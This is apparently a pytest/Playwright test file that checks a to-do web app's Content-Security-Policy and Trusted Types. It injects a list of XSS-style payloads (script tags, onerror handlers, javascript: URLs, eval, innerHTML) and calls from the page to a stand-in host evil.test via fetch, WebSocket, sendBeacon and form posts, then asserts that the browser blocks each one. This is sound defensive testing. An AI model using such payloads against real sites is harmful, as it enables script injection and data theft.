"""The page works under its Content-Security-Policy, and the browser refuses what it forbids."""

import httpx
import pytest
from playwright.sync_api import Browser, Route, expect

from tests.browser.deployment import Deployment
from tests.browser.people import Visitor, visitor

_LISTEN = """window.violations = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    window.violations.push(
        `${effectiveDirective} ${URL.parse(blockedURI)?.host || blockedURI}`));"""
# As if the server, or who sits before it, had let somebody write into the page.
_MARKUP = {
    "<script>window.hacked = 1</script>": "script-src-elem inline",
    "<script src='data:text/javascript,hacked=1'></script>": "script-src-elem data",
    "<script src='http://evil.test/a.js'></script>": "script-src-elem evil.test",
    "<img src=data: onerror='window.hacked = 1'>": "script-src-attr inline",
    "<iframe src='javascript:parent.hacked = 1'></iframe>": "script-src-elem inline",
    "<iframe src='http://evil.test/frame'></iframe>": "frame-src evil.test",
    "<style>body { display: none }</style>": "style-src-elem inline",
    "<p style='display: none'>x</p>": "style-src-attr inline",
    "<link rel=stylesheet href='http://evil.test/a.css'>": "style-src-elem evil.test",
    "<img src='http://evil.test/pixel'>": "img-src evil.test",
    "<object data='http://evil.test/object'></object>": "object-src evil.test",
    "<video src='http://evil.test/video'></video>": "media-src evil.test",
    "<base href='http://evil.test/'>": "base-uri evil.test",
}
# What a library gone bad in the page would do: make elements, take text for script, call home.
_BY_SCRIPT = """{
    "eval": () => (0, eval)("window.hacked = 1"),
    "timeout": () => setTimeout("window.hacked = 1"),
    "script text": () => make("script", { text: "window.hacked = 1" }),
    "script source": () => make("script", { src: "http://evil.test/script.js" }),
    "event handler": () => {
        const button = make("button", {});
        button.setAttribute("onclick", "window.hacked = 1");
        button.click();
    },
    "javascript: link": () => make("a", { href: "javascript:window.hacked = 1" }).click(),
    "innerHTML": () => { make("div", {}).innerHTML = "<img src=x onerror='window.hacked = 1'>"; },
    "outerHTML": () => { make("div", {}).outerHTML = "<b>x</b>"; },
    "insertAdjacentHTML": () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
    "document.write": () => document.write("<b>x</b>"),
    "srcdoc": () => make("iframe", { srcdoc: "<b>x</b>" }),
    "DOMParser": () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
    "a policy": () => trustedTypes.createPolicy("own", { createHTML: (text) => text }),
    "worker": () => new Worker("http://evil.test/worker.js"),
    "style": () => make("style", { textContent: "body { display: none }" }),
    "font": () => void new FontFace("f", "url(http://evil.test/f)").load().catch(() => 0),
    "fetch": () => void fetch("http://evil.test/").catch(() => 0),
    "websocket": () => new WebSocket("ws://evil.test/"),
    "beacon": () => navigator.sendBeacon("http://evil.test/", "1"),
    "form": () => make("form", { action: "http://evil.test/", method: "post" }).submit(),
}"""
_BREAKS = {
    "eval": "require-trusted-types-for",
    "timeout": "require-trusted-types-for",
    "script text": "require-trusted-types-for",
    "script source": "require-trusted-types-for",
    "event handler": "require-trusted-types-for",
    "javascript: link": "script-src-elem",
    "innerHTML": "require-trusted-types-for",
    "outerHTML": "require-trusted-types-for",
    "insertAdjacentHTML": "require-trusted-types-for",
    "document.write": "require-trusted-types-for",
    "srcdoc": "require-trusted-types-for",
    "DOMParser": "require-trusted-types-for",
    "a policy": "trusted-types",
    "worker": "require-trusted-types-for",
    "style": "style-src-elem",
    "font": "font-src",
    "fetch": "connect-src",
    "websocket": "connect-src",
    "beacon": "connect-src",
    "form": "form-action",
}
_TRY_ALL = """async () => {
    const make = (tag, attributes) => {
        const element = Object.assign(document.createElement(tag), attributes);
        document.body.append(element);
        return element;
    };
    const broken = {};
    for (const [name, attack] of Object.entries(%s)) {
        broken[name] = await new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
            setTimeout(resolve, 3000, "nothing");
            // Not in the test's own call, which the browser lets evaluate text.
            setTimeout(() => { try { attack(); } catch { /* Trusted Types throw */ } });
        });
    }
    return [broken, window.hacked ?? null];
}"""
_HEADERS = {
    "Cross-Origin-Opener-Policy": "same-origin",
    "Referrer-Policy": "no-referrer",
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
}


@pytest.fixture
def ada(browser: Browser, tasks: Deployment) -> Visitor:
    """Somebody whose pages note each breach of the policy."""
    somebody = visitor(browser, tasks.url)
    somebody.context.add_init_script(_LISTEN)
    return somebody


def _visit(ada: Visitor) -> None:
    """Use everything there is to use."""
    page = ada.page
    ada.sign_up("Ada")
    page.get_by_role("button", name="New list").click()
    page.get_by_label("Name of the new list").fill("Errands")
    page.get_by_role("button", name="Create list").click()
    expect(page.get_by_role("heading", name="Errands")).to_be_visible()
    ada.add("Water the plants")
    page.get_by_role("button", name='Edit "Water the plants"').click()
    page.get_by_role("dialog").get_by_role("button", name="Tomorrow").click()
    page.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.get_by_role("button", name="Select", exact=True).click()
    page.get_by_label('Select "Water the plants"').check()
    page.get_by_role("button", name="Select", exact=True).click()
    page.get_by_role("button", name="Export").click()
    with page.expect_download():
        page.get_by_role("button", name="CSV").click()
    page.get_by_role("link", name="Errands").hover()
    page.get_by_role("button", name="What to do with “Errands”").click()
    page.get_by_role("button", name="Delete…").click()
    page.get_by_role("button", name="Delete the list").click()
    page.get_by_role("button", name="Account").click()
    page.get_by_text("Dark").click()
    page.keyboard.press("Escape")
    page.locator("body").press("?")
    page.get_by_role("button", name="Close").click()


def test_a_whole_visit_breaks_no_rule(ada: Visitor) -> None:
    """Sign-up, lists, dialogs, an export, the menus: no violation, and a console without a word."""
    _visit(ada)
    ada.sign_out()
    assert ada.page.evaluate("window.violations") == []
    # Chromium says what the server has had cleared.
    assert [line for line in ada.logged if not line.startswith("Clear-Site-Data")] == []


def test_injected_markup_neither_runs_nor_calls(ada: Visitor) -> None:
    """Whatever is written into the page itself, each piece breaks the rule that is there for it."""

    def inject(route: Route) -> None:
        answer = route.fetch()
        body = answer.text().replace("<body>", f"<body>{''.join(_MARKUP)}")
        route.fulfill(response=answer, body=body)

    ada.page.route(f"{ada.url}/sign-in", inject)
    ada.page.goto(f"{ada.url}/sign-in", wait_until="load")
    expect(ada.page.get_by_label("Email")).to_be_visible()
    broken = ada.page.evaluate("window.violations")
    assert set(_MARKUP.values()) - set(broken) == set()
    assert ada.page.evaluate("window.hacked ?? null") is None


def test_a_script_gone_bad_is_held_back(ada: Visitor) -> None:
    """Text taken for script, foreign code, style and addresses: the browser refuses each."""
    ada.page.goto(f"{ada.url}/sign-in")
    expect(ada.page.get_by_label("Email")).to_be_visible()
    broken, ran = ada.page.evaluate(_TRY_ALL % _BY_SCRIPT)
    assert (broken, ran) == (_BREAKS, None)
    assert ada.page.url == f"{ada.url}/sign-in"


@pytest.mark.parametrize("path", ["/", "/sign-in", "/docs", "/favicon.svg"])
def test_what_is_sent_with_every_page(tasks: Deployment, path: str) -> None:
    """The policy has no loophole, and the headers beside it are all there."""
    answer = httpx.get(f"{tasks.url}{path}", trust_env=False)
    assert answer.status_code == 200
    assert {name: answer.headers.get(name) for name in _HEADERS} == _HEADERS
    policy = answer.headers["Content-Security-Policy"]
    for loophole in ("unsafe", "*", "http:", "https:", "blob:", "strict-dynamic"):
        assert loophole not in policy
    for feature in ("camera", "geolocation", "microphone"):
        assert f"{feature}=()" in answer.headers["Permissions-Policy"]
